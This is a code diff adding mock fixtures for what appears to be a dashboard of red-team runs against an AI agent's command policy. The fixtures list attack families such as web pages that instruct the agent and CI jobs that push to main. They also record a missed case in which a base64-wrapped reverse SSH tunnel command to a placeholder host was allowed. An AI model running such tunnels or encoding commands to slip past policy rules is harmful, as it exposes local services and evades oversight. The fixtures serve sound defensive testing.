@@ -53,13 +53,66 @@ const changes = {
   more: 1,
 };
 
+const run = (daysAgo: number, missed: number, isWhole = true) => ({
+  ...{ atMs: nowMs - daysAgo * DAY_MS, isWhole, cases: 104, tried: 3_300, missed },
+  ...{ product: "0.1.0", policy: "cd".repeat(32) },
+});
+const redteam = {
+  command: `sallyport redteam run --project ${ROOT}`,
+  due: ["the policy changed", `pipelines changed ${HOSTILE}`],
+  ...{ runs: [run(1, 2), run(2, 1, false), run(8, 3)], moreRuns: 4 },
+  families: [
+    {
+      ...{ id: "told-by-pages", title: `Pages that tell the agent ${HOSTILE}`, isAttack: true },
+      ...{ owner: "platform", fix: `tighten the rule ${HOSTILE}` },
+      cases: [
+        { id: "by-tunnel", title: `By a tunnel ${HOSTILE}`, sinceMs: nowMs - 8 * DAY_MS },
+        { id: "by-push", title: "By a push", sinceMs: null },
+      ],
+    },
+    {
+      ...{ id: "honest-work", title: "Honest work", isAttack: false, owner: "platform" },
+      fix: "look at the reason",
+      cases: [{ id: "reads", title: "Files are read", sinceMs: nowMs - DAY_MS }],
+    },
+    {
+      ...{ id: "ci-push", title: "Jobs that push", isAttack: true, owner: "platform", fix: "" },
+      cases: [{ id: "main", title: "To the main branch", sinceMs: null }],
+    },
+  ],
+};
+const ranNow = {
+  ...{ command: redteam.command, policy: "team", cases: 104, tried: 3_312, moreMissed: 0 },
+  missed: [
+    {
+      ...{ family: "told-by-pages", id: "by-tunnel", title: "By a tunnel", retest: "open" },
+      ...{ owner: "platform", fix: `tighten the rule ${HOSTILE}`, moreCalls: 2 },
+      calls: [
+        {
+          ...{ call: `ssh -R 80:localhost:80 ${HOSTILE}`, wrapping: "base64", expected: "stopped" },
+          ...{ verdict: "allow", rule: `builtin:team/look ${HOSTILE}` },
+        },
+      ],
+    },
+  ],
+  mended: ["install-scripts/other-index"],
+};
+
 export const assuranceAnswers = {
+  "GET /redteam": redteam,
+  "POST /redteam/run": ranNow,
   "GET /mcp": mcp,
   "GET /mcp/changes": changes,
 };
 
-/** No server, and no project file that names one. */
+/** Nothing was done yet. */
 export const EMPTY = {
+  "GET /redteam": {
+    ...{ ...redteam, runs: [], moreRuns: 0, due: ["there was no run of all cases yet"] },
+    families: redteam.families.map(({ cases, ...one }) => ({
+      ...{ ...one, cases: cases.map((of) => ({ ...of, sinceMs: null })) },
+    })),
+  },
   "GET /mcp": { ...mcp, servers: [], unread: [], findings: [], moreFindings: 0 },
 };
 export const NOT_PINNED = {
